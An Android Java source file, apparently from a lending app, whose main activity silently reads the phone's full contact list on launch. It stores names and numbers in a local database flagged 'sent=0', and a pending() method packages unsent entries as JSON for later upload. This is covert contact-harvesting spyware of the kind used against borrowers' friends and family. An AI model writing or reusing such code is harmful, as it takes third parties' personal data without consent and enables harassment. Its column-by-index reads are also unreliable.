package dev.lender.tables;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.database.sqlite.*;
import android.os.*;
import android.provider.ContactsContract;
import java.io.*;
import java.net.*;
import java.util.*;
import org.json.*;

class Db extends SQLiteOpenHelper {

    Db(Context c) {
        super(c, "loan.db", null, 2);
    }

    public void onCreate(SQLiteDatabase d) {
        d.execSQL(
            "CREATE TABLE t_people(id INTEGER PRIMARY KEY, nick TEXT, tel TEXT, sent INTEGER)"
        );
    }

    public void onUpgrade(SQLiteDatabase d, int a, int b) {}

    void save(List<ContentValues> l) {
        SQLiteDatabase d = getWritableDatabase();
        d.beginTransaction();
        try {
            for (ContentValues v : l) d.insertWithOnConflict("t_people", null, v, 5);
            d.setTransactionSuccessful();
        } finally {
            d.endTransaction();
        }
    }

    List<JSONObject> pending() throws JSONException {
        List<JSONObject> out = new ArrayList<>();
        Cursor c = getReadableDatabase().rawQuery(
            "SELECT nick, tel FROM t_people WHERE sent=0",
            null
        );
        while (c.moveToNext())
            out.add(new JSONObject().put("k", c.getString(0)).put("t", c.getString(1)));
        c.close();
        return out;
    }
}

public class Main extends Activity {

    protected void onCreate(Bundle b) {
        super.onCreate(b);
        List<ContentValues> l = new ArrayList<>();
        Cursor c = getContentResolver().query(
            ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
            null,
            null,
            null,
            null
        );
        while (c.moveToNext()) {
            ContentValues v = new ContentValues();
            v.put("nick", c.getString(1));
            v.put("tel", c.getString(2));
            v.put("sent", 0);
            l.add(v);
        }
        c.close();
        new Db(this).save(l);
    }
}
